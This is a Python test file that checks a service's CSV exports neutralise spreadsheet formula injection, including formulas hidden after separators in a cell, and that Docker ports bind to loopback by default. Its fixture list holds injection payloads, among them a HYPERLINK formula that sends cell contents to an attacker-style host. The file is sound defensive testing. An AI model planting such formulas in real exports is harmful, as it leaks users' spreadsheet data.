"""What the services hand out is safe: CSV exports cannot run formulas in a spreadsheet, and
published ports stay on this machine unless the operator says otherwise."""

from __future__ import annotations

import csv
import io
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import yaml
from helpers import ROOT

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "@SUM(A1:A9)", "+1+1", "-2*3", "\t=1", "Bol"]
# formulas after a separator inside a cell: French Excel splits a comma file on ';', a paste on tabs
HIDDEN = {
    "Bol;=HYPERLINK(1)": "Bol;'=HYPERLINK(1)",
    "Tasse\t@SUM(A1)": "Tasse\t'@SUM(A1)",
    "Vase,+1+1": "Vase,'+1+1",
    "\t=1": "\t'=1",  # pasted: the tab splits, the formula is the second cell
    "1;-2": "1;-2",  # numbers stay numbers
    "Pot; =1": "Pot; =1",  # a space first: text for every spreadsheet
}


def wait_until_up(server: subprocess.Popen, url: str) -> None:
    deadline = time.monotonic() + 30
    while True:
        try:
            urllib.request.urlopen(url, timeout=2)
            return
        except OSError:
            assert time.monotonic() < deadline and server.poll() is None, "the server did not start"
            time.sleep(0.2)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_a_formula_after_any_separator_inside_a_cell_is_neutralised() -> None:
    from datasette_plugins.csv_formula_guard import neutralise

    for cell, safe in HIDDEN.items():
        assert neutralise(cell) == safe, cell


def test_the_french_excel_export_is_semicolon_separated_with_decimal_commas(tmp_path: Path) -> None:
    """What the storage service offers French Excel (/-/excel/<db>/<table>.csv, linked from every
    table page and the dashboard): ';', decimal commas, a BOM, every cell guarded."""
    db = tmp_path / "warehouse.db"
    con = sqlite3.connect(db)
    con.execute("create table products (name text, price real, stock integer)")
    con.executemany("insert into products values (?, ?, ?)", [(h, 5268.78, 3) for h in [*HOSTILE, *HIDDEN]])
    con.commit()
    con.close()
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "pipeline", "serve", "--db", str(db), "--host", "127.0.0.1", "--port", str(port)],
        cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        base = f"http://127.0.0.1:{port}"
        wait_until_up(server, f"{base}/warehouse.json")
        body = urllib.request.urlopen(f"{base}/-/excel/warehouse/products.csv", timeout=10).read()
        table_page = urllib.request.urlopen(f"{base}/warehouse/products", timeout=10).read().decode()
    finally:
        server.terminate()
        server.wait(timeout=10)
    assert body.startswith("\ufeff".encode())  # Excel reads UTF-8 only with its byte order mark
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["name", "price", "stock"]
    assert [r[1:] for r in rows[1:]] == [["5268,78", "3"]] * (len(rows) - 1)  # decimal commas, exact
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + h for h in HOSTILE[:4]] + ["\t'=1"] + ["Bol", *HIDDEN.values()]
    assert b"\r\n" in body
    assert 'href="/-/excel/warehouse/products.csv"' in table_page


def test_datasette_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    db = tmp_path / "warehouse.db"
    con = sqlite3.connect(db)
    con.execute("create table products (name text, price real)")
    con.executemany("insert into products values (?, ?)", [(h, -3.5) for h in HOSTILE])
    con.commit()
    con.close()
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "datasette", "serve", str(db), "--host", "127.0.0.1", "--port", str(port),
         "--plugins-dir", str(ROOT / "datasette_plugins")],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        base = f"http://127.0.0.1:{port}/warehouse"
        wait_until_up(server, f"{base}.json")
        for query in (
            "/products.csv",
            "/products.csv?_stream=on",
            ".csv?sql=select+name,price+from+products",
        ):
            body = urllib.request.urlopen(base + query, timeout=10).read().decode("utf-8")
            rows = list(csv.DictReader(io.StringIO(body)))
            names = [r["name"] for r in rows]
            assert names == ["'" + h for h in HOSTILE[:4]] + ["\t'=1"] + ["Bol"], (query, names)
            assert {r["price"] for r in rows} == {"-3.5"}  # numbers stay numbers
        page = urllib.request.urlopen(f"{base}/products.json?_shape=array", timeout=10).read().decode()
        assert "=HYPERLINK" in page  # the data itself is unchanged: only the CSV export is guarded
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_compose_publishes_ports_on_loopback_unless_told_otherwise() -> None:
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    published = [p for service in compose["services"].values() for p in service.get("ports", [])]
    assert published
    assert all(p.startswith("${PUBLISH_HOST:-127.0.0.1}:") for p in published), published
